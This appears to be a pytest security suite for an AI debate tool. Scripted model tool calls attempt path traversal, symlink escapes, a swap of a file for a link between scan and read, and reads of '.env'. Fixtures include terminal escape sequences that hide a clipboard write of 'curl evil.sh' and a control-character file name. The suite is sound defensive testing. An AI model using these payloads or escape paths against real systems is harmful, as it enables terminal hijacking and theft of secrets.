"""Hostile references and hostile tool calls: nothing outside the references is read, nothing
unsafe reaches a terminal, no key reaches the model, the disk or the screen, nothing hangs."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from moot.core.safety.sanitize import UNSAFE
from tests.conftest import LoopbackServer, cli
from tests.grounding_helpers import call, debate_id, events, first_turn_calls, is_proposal, make_refs, run, tool_messages

OUTSIDE = "the launch codes are in the outside file"


def _results(server: LoopbackServer) -> list[str]:
    follow = next(r for r in server.requests if is_proposal(r) and tool_messages(r))
    return [m["content"] for m in tool_messages(follow)]


def _everything_sent(server: LoopbackServer) -> str:
    return "\n".join(str(r) for r in server.requests)


def test_paths_that_leave_the_references_are_tool_errors_and_never_read(tmp_path: Path) -> None:
    refs = make_refs(tmp_path)
    (tmp_path / "outside.txt").write_text(OUTSIDE + "\n")
    os.symlink(tmp_path / "outside.txt", refs / "docs" / "link_out.txt")
    os.symlink(tmp_path, refs / "parent_link")
    os.symlink(refs / "loop_b", refs / "loop_a")
    os.symlink(refs / "loop_a", refs / "loop_b")
    script = first_turn_calls(call("read_file", path="../outside.txt"), call("read_file", path=str(tmp_path / "outside.txt")),
                              call("read_file", path="docs/link_out.txt"), call("read_file", path="parent_link/outside.txt"),
                              call("read_file", path="loop_a"), call("list_files", path="docs/../../"),
                              call("search", query="launch codes", path="/"), call("read_file", path=".env"))
    with LoopbackServer(tool_calls=script) as server:
        result = run(server.base_url, refs, "-a", "architect")
        texts = _results(server)
        sent = _everything_sent(server)
    assert result.returncode == 0, result.stderr
    assert OUTSIDE not in sent and "hunter2" not in sent
    assert texts[0] == "error: '../outside.txt' leaves the references ('..' is not allowed)"
    assert texts[1].startswith("error: ") and "is an absolute path" in texts[1]
    assert texts[2] == "error: 'docs/link_out.txt' is not readable: a symbolic link pointing outside the references"
    assert texts[3].startswith("error: no file or folder 'parent_link/outside.txt'")
    assert texts[4] == "error: 'loop_a' is not readable: a broken symbolic link or a link loop"
    assert "leaves the references" in texts[5] and "absolute path" in texts[6]
    assert texts[7].startswith("error: no file or folder '.env'")  # a secret is not even named
    listing = cli("show", debate_id(), "--state-dir", "debates").stdout
    assert "references: 3 files" in listing


def test_a_fifo_and_a_file_swapped_for_a_link_after_the_start_are_refused_without_hanging(tmp_path: Path) -> None:
    refs = make_refs(tmp_path)
    os.mkfifo(refs / "pipe")
    (tmp_path / "outside.txt").write_text(OUTSIDE + "\n")
    swapped = refs / "src" / "store.py"

    def script(body: dict, n: int) -> list[dict] | None:
        if is_proposal(body) and not tool_messages(body):
            swapped.unlink()  # between the scan and the read: the file becomes a link out
            os.symlink(tmp_path / "outside.txt", swapped)
            return [call("read_file", path="pipe"), call("read_file", path="src/store.py")]
        return None

    with LoopbackServer(tool_calls=script) as server:
        result = run(server.base_url, refs, "-a", "architect")
        texts = _results(server)
        sent = _everything_sent(server)
    assert result.returncode == 0, result.stderr
    assert texts[0] == "error: 'pipe' is not readable: not a regular file"
    assert texts[1].startswith("error: 'src/store.py' cannot be read: it ")
    assert OUTSIDE not in sent


def test_a_huge_file_binary_files_and_non_utf8_text(tmp_path: Path) -> None:
    refs = make_refs(tmp_path)
    with open(refs / "huge.txt", "wb") as f:  # 1 GB, sparse: nothing is written, and nothing is read
        f.truncate(1 << 30)
    (refs / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    (refs / "latin1.txt").write_bytes("Caf\xe9 cr\xe8me: the notes index keeps accents\n".encode("latin-1"))
    script = first_turn_calls(call("read_file", path="huge.txt"), call("read_file", path="image.png"),
                              call("read_file", path="latin1.txt"), call("list_files"))
    with LoopbackServer(tool_calls=script) as server:
        result = run(server.base_url, refs, "-a", "architect")
        texts = _results(server)
    assert result.returncode == 0, result.stderr
    assert texts[0] == "error: 'huge.txt' is not readable: larger than 1,048,576 bytes"
    assert texts[1] == "error: 'image.png' is not readable: binary"
    assert texts[2].startswith("latin1.txt (lines 1–1 of 1)") and "Caf\ufffd cr\ufffdme" in texts[2]
    assert "huge.txt" not in texts[3] and "image.png" not in texts[3] and "latin1.txt" in texts[3]


def test_a_file_full_of_escape_sequences_is_shown_safely_everywhere(tmp_path: Path) -> None:
    refs = make_refs(tmp_path)
    nasty = ("\x1b]0;pwned title\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNo\x07Storage note: keep the journal\r"
             "\x1b[31mred\x1b[0m \x9b1;1H\x07 bell\n")
    (refs / "docs" / "nasty.md").write_text(nasty)
    with LoopbackServer(tool_calls=first_turn_calls(call("read_file", path="docs/nasty.md"),
                                                    call("search", query="journal"))) as server:
        result = run(server.base_url, refs, "-a", "architect")
        texts = _results(server)
    assert result.returncode == 0, result.stderr
    assert "Storage note: keep the journal" in texts[0] and not UNSAFE.search(texts[0])
    assert not UNSAFE.search(texts[1])
    ident = debate_id()
    log = (next(Path("debates").glob(f"{ident}/events.jsonl"))).read_text()
    assert "\\u001b" not in log and "\\u0007" not in log
    for command in (["context", ident, "--round", "1", "--agent", "architect"], ["report", ident], ["show", ident]):
        shown = cli(*command, "--state-dir", "debates")
        assert shown.returncode == 0 and not UNSAFE.search(shown.stdout), command
    assert not UNSAFE.search(result.stderr.replace("\n", ""))


def test_a_file_holding_the_configured_key_is_masked_before_anything_sees_it(tmp_path: Path,
                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-groundingtest-9f8e7d6c5b4a39281706"
    monkeypatch.setenv("OPENAI_API_KEY", key)
    refs = make_refs(tmp_path)
    (refs / "docs" / "setup.md").write_text(f"# Setup\n\nExport OPENAI_API_KEY={key} before the service starts.\n")
    with LoopbackServer(tool_calls=first_turn_calls(call("read_file", path="docs/setup.md"),
                                                    call("search", query="OPENAI_API_KEY"))) as server:
        result = run(server.base_url, refs, "-a", "architect")
        bodies = [str(r) for r in server.requests]
    assert result.returncode == 0, result.stderr
    assert not any(key in b for b in bodies)
    assert any("OPENAI_API_KEY=" in b for b in bodies)  # the file was read, the key masked
    folder = next(Path("debates").glob("*/events.jsonl")).parent
    for path in folder.iterdir():
        if path.is_file():
            assert key not in path.read_bytes().decode("utf-8", "replace"), path.name
    for command in (["context", debate_id(), "--round", "1", "--agent", "architect"], ["report", debate_id()]):
        assert key not in cli(*command, "--state-dir", "debates").stdout
    assert key not in result.stderr + result.stdout
    assert all(e["type"] != "tool_returned" or e["ok"] for e in events())


def test_a_file_named_with_control_characters_is_left_out_not_listed_under_another_name(tmp_path: Path) -> None:
    """Listed under its cleaned name (`eviltxt.md`), it was a file no tool could open: the model
    was told of it and every read failed. Such a name is now skipped, like a secret-looking one."""
    refs = make_refs(tmp_path)
    (refs / "docs" / "evil\x1b]0;pwned\x07\u202etxt.md").write_text("Storage note: the journal is fsynced.\n")
    with LoopbackServer(tool_calls=first_turn_calls(call("list_files", path="docs"))) as server:
        result = run(server.base_url, refs, "-a", "architect")
        texts = _results(server)
    assert result.returncode == 0, result.stderr
    assert "evil" not in texts[0] and "plan.md" in texts[0]
    assert not UNSAFE.search(result.stderr.replace("\n", ""))
